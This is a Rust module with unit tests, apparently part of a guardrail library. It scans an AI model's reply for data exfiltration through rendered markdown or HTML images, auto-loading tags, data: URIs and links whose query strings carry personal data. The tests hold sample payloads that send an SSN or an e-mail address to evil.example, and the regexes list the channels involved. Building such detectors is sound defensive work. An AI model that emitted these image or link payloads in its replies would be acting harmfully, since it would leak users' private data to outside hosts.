//! Exfiltration on the output side: a reply that would carry data out when it is rendered.
//!
//! - an image (markdown `![…](url)`, reference-style images, auto-loading HTML such as
//!   `<img src>`, `<iframe>`, `<script src>`, CSS `url(…)`, a meta refresh) whose URL the user
//!   did not supply: the client would fetch it unasked, with whatever the query string holds;
//! - a `data:` URI in a link or an image;
//! - a link the user did not supply whose query string carries data (a long encoded value,
//!   an e-mail address, an SSN/card-shaped number, an issued token, text).
//!
//! Code (fenced blocks, inline code) is not rendered, so it is left alone. Only counts and rule
//! names leave this module, never a URL.
use super::compile;
use super::rules::Category;
use super::scan::{Hit, Source};
use crate::protection::BuildError;
use regex::Regex;

pub(super) struct ExfilPatterns {
    url: Regex,
    code: Regex,
    md_image: Regex,
    md_ref_image: Regex,
    md_ref_def: Regex,
    md_link: Regex,
    html_autoload: Regex,
    css_url: Regex,
    meta_refresh: Regex,
    data_uri: Regex,
    sensitive_value: Regex,
}

/// URLs in a text (http, https, protocol-relative), trailing punctuation trimmed: what a
/// user's prompt supplies for [`super::OutputSignals::user_urls`].
pub fn urls_in(text: &str) -> Vec<String> {
    static URL: std::sync::OnceLock<Option<Regex>> = std::sync::OnceLock::new();
    let Some(re) = URL
        .get_or_init(|| Regex::new(r#"(?i)(?-u:\b)https?://[^\s<>"'`)\]]+"#).ok())
        .as_ref()
    else {
        return Vec::new();
    };
    re.find_iter(text).map(|m| trim_url(m.as_str())).collect()
}

fn trim_url(u: &str) -> String {
    u.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_'])
        .to_owned()
}

fn normalized(u: &str) -> String {
    let u = trim_url(u.trim().trim_matches(['<', '>', '"', '\'']));
    let lower = u.to_ascii_lowercase();
    let lower = lower
        .strip_prefix("https:")
        .or_else(|| lower.strip_prefix("http:"))
        .unwrap_or(&lower)
        .to_owned();
    lower.trim_end_matches('/').to_owned()
}

/// An encoded blob: base64-like (≥ 20 characters with upper, lower and digits) or hex (≥ 32).
fn blob(v: &str) -> bool {
    let b = v.as_bytes();
    let b64 = b.len() >= 20
        && b.iter().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_' | b'%')
        })
        && b.iter().any(u8::is_ascii_uppercase)
        && b.iter().any(u8::is_ascii_lowercase)
        && b.iter().filter(|c| c.is_ascii_digit()).count() >= 2;
    let hex = b.len() >= 32 && b.iter().all(u8::is_ascii_hexdigit);
    b64 || hex
}

/// Blanks out code (fenced blocks and inline spans), keeping byte offsets.
fn without_code(code: &Regex, text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    for m in code.find_iter(text) {
        out.push_str(&text[last..m.start()]);
        out.extend(std::iter::repeat_n(' ', m.as_str().len()));
        last = m.end();
    }
    out.push_str(&text[last..]);
    out
}

impl ExfilPatterns {
    pub fn new() -> Result<Self, BuildError> {
        Ok(Self {
            url: compile("exfil_url", r#"(?i)^(?:https?:)?//[^\s/?#]+"#)?,
            code: compile(
                "exfil_code",
                r"(?s)```.*?(?:```|\z)|~~~.*?(?:~~~|\z)|`[^`\n]+`",
            )?,
            md_image: compile("exfil_md_image", r#"!\[[^\]\n]*\]\(\s*<?([^)\s>]+)"#)?,
            md_ref_image: compile("exfil_md_ref_image", r"!\[[^\]\n]*\]\[([^\]\n]*)\]")?,
            md_ref_def: compile(
                "exfil_md_ref_def",
                r"(?m)^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+)",
            )?,
            md_link: compile(
                "exfil_md_link",
                r#"\[[^\]\n]*\]\(\s*<?([^)\s>]+)|(?i)\bhttps?://[^\s<>"'`)\]]+"#,
            )?,
            html_autoload: compile(
                "exfil_html_autoload",
                r#"(?i)<\s*(?:img|image|iframe|frame|script|video|audio|source|embed|object|link|input|track|body|table|td|use|svg)\b[^>]*?\b(?:src|href|data|poster|background|srcset|xlink:href|formaction)\s*=\s*["']?([^"'\s>]+)"#,
            )?,
            css_url: compile("exfil_css_url", r#"(?i)\burl\(\s*["']?([^"')\s]+)"#)?,
            meta_refresh: compile(
                "exfil_meta_refresh",
                r#"(?i)<\s*meta\b[^>]*http-equiv\s*=\s*["']?refresh"#,
            )?,
            data_uri: compile(
                "exfil_data_uri",
                r"(?i)\bdata:[a-z]+/[a-z0-9.+-]+(?:;[a-z0-9=-]+)*[;,]",
            )?,
            sensitive_value: compile(
                "exfil_sensitive_value",
                r"(?i)@|%40|\d{3}-\d{2}-\d{4}|\b\d{9}\b|\b(?:\d[ -]?){13,19}\b|\[[a-z_]+:|%5b[a-z_]+%3a|(?:%20|\+)[a-z0-9]+(?:%20|\+)",
            )?,
        })
    }

    fn remote(&self, url: &str) -> bool {
        self.url.is_match(url.trim())
    }

    fn trusted(user: &[String], url: &str) -> bool {
        let n = normalized(url);
        user.iter().any(|u| normalized(u) == n)
    }

    /// Whether a URL's query string, fragment or last path segment carries data: an e-mail
    /// address, an SSN/card-shaped number, an issued token, encoded text (`%20`, `+`), or an
    /// encoded blob (base64 with mixed case and digits, or long hex).
    fn carries_data(&self, url: &str) -> bool {
        let (path, query) = match url.find(['?', '#']) {
            Some(i) => (&url[..i], &url[i + 1..]),
            None => (url, ""),
        };
        let last = path.rsplit('/').next().unwrap_or("");
        blob(last)
            || query
                .split(['&', ';'])
                .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v))
                .any(|v| self.sensitive_value.is_match(v) || blob(v))
    }

    /// Exfiltration hits of a reply; returns how many URLs were judged untrusted.
    pub fn output_hits(&self, text: &str, user_urls: &[String], out: &mut Vec<Hit>) -> usize {
        let rendered = without_code(&self.code, text);
        let mut untrusted = 0usize;
        let exf = Category::DataExfiltration;
        let mut push = |rule: &'static str, score: f64| {
            out.push(Hit::new(rule, exf, score, Source::Text));
        };

        let mut images: Vec<&str> = Vec::new();
        for c in self.md_image.captures_iter(&rendered).take(256) {
            if let Some(m) = c.get(1) {
                images.push(m.as_str());
            }
        }
        let refs: Vec<String> = self
            .md_ref_image
            .captures_iter(&rendered)
            .take(256)
            .filter_map(|c| c.get(1).map(|m| m.as_str().to_ascii_lowercase()))
            .collect();
        if !refs.is_empty() {
            for c in self.md_ref_def.captures_iter(&rendered).take(256) {
                if let (Some(k), Some(u)) = (c.get(1), c.get(2)) {
                    if refs.iter().any(|r| *r == k.as_str().to_ascii_lowercase()) {
                        images.push(u.as_str());
                    }
                }
            }
        }
        let mut html: Vec<&str> = Vec::new();
        for re in [&self.html_autoload, &self.css_url] {
            for c in re.captures_iter(&rendered).take(256) {
                if let Some(m) = c.get(1) {
                    html.push(m.as_str());
                }
            }
        }
        for (url, rule) in images
            .iter()
            .map(|u| (*u, "untrusted_image"))
            .chain(html.iter().map(|u| (*u, "autoload_html")))
        {
            if self.data_uri.is_match(url) {
                untrusted += 1;
                push("data_uri", 0.9);
            } else if self.remote(url) && !Self::trusted(user_urls, url) {
                untrusted += 1;
                if self.carries_data(url) {
                    push("image_exfiltration", 0.95);
                } else {
                    push(rule, 0.9);
                }
            }
        }
        if self.meta_refresh.is_match(&rendered) {
            untrusted += 1;
            push("autoload_html", 0.9);
        }
        let judged: Vec<&str> = images.iter().chain(html.iter()).copied().collect();
        for c in self.md_link.captures_iter(&rendered).take(512) {
            let url = c
                .get(1)
                .map_or_else(|| c.get(0).map_or("", |m| m.as_str()), |m| m.as_str());
            let image_link = c
                .get(0)
                .is_some_and(|m| m.start() > 0 && rendered.as_bytes()[m.start() - 1] == b'!');
            if image_link || judged.iter().any(|j| j.contains(url) || url.contains(j)) {
                continue;
            }
            if self.data_uri.is_match(url) {
                untrusted += 1;
                push("data_uri", 0.85);
            } else if self.remote(url) && !Self::trusted(user_urls, url) && self.carries_data(url) {
                untrusted += 1;
                push("link_exfiltration", 0.85);
            }
        }
        untrusted
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(text: &str, user: &[&str]) -> Vec<&'static str> {
        let p = ExfilPatterns::new().unwrap();
        let user: Vec<String> = user.iter().map(|s| s.to_string()).collect();
        let mut out = Vec::new();
        p.output_hits(text, &user, &mut out);
        let mut v: Vec<_> = out.iter().map(|h| h.rule).collect();
        v.sort();
        v.dedup();
        v
    }

    #[test]
    fn images_the_user_did_not_supply_are_flagged() {
        assert_eq!(
            hits(
                "Here you go ![chart](https://evil.example/a.png?d=SSN%20123-45-6789)",
                &[]
            ),
            ["image_exfiltration"]
        );
        assert_eq!(
            hits("![logo](https://cdn.example/logo.png)", &[]),
            ["untrusted_image"]
        );
        assert!(hits(
            "![logo](https://cdn.example/logo.png)",
            &["https://cdn.example/logo.png"]
        )
        .is_empty());
        assert_eq!(
            hits(
                "<img src=\"https://x.example/p?q=aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE\">",
                &[]
            ),
            ["image_exfiltration"]
        );
        assert_eq!(
            hits("<iframe src='https://x.example/'></iframe>", &[]),
            ["autoload_html"]
        );
        assert_eq!(
            hits("![x][r]\n\n[r]: https://x.example/i.png", &[]),
            ["untrusted_image"]
        );
        assert_eq!(
            hits("![x](data:image/png;base64,iVBORw0KGgo=)", &[]),
            ["data_uri"]
        );
    }

    #[test]
    fn data_carrying_links_are_flagged_and_plain_links_are_not() {
        assert_eq!(
            hits(
                "[click](https://evil.example/c?v=jane.doe%40example.com)",
                &[]
            ),
            ["link_exfiltration"]
        );
        assert_eq!(
            hits(
                "See https://evil.example/?q=the%20user%20ssn%20is%20123",
                &[]
            ),
            ["link_exfiltration"]
        );
        assert!(hits(
            "See https://docs.rs/regex and [the book](https://doc.rust-lang.org/book/)",
            &[]
        )
        .is_empty());
        assert!(hits("Search https://www.google.com/search?q=rust", &[]).is_empty());
    }

    #[test]
    fn code_is_not_rendered() {
        assert!(hits(
            "Use this HTML:\n```html\n<img src=\"https://example.com/cat.jpg\">\n```",
            &[]
        )
        .is_empty());
        assert!(hits(
            "Write `![alt](https://example.com/x.png)` in your README.",
            &[]
        )
        .is_empty());
        assert!(hits("<img src=\"cat.jpg\" alt=\"a cat\">", &[]).is_empty());
    }

    #[test]
    fn urls_are_extracted_from_prompts() {
        assert_eq!(
            urls_in("Show https://a.example/x.png, and http://b.example/?q=1."),
            ["https://a.example/x.png", "http://b.example/?q=1"]
        );
    }
}
